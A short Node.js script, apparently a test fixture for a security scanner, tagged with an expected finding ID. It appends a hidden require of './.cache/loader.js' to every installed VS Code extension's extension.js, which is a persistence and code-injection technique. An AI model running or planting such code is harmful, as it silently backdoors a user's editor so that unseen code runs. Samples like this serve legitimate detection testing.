import { readdirSync, appendFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
const root = join(homedir(), ".vscode", "extensions");
for (const ext of readdirSync(root)) {
  // pi-expect: SEC-FSSENS-001
  appendFileSync(join(root, ext, "out", "extension.js"), "\n;require('./.cache/loader.js');\n");
}
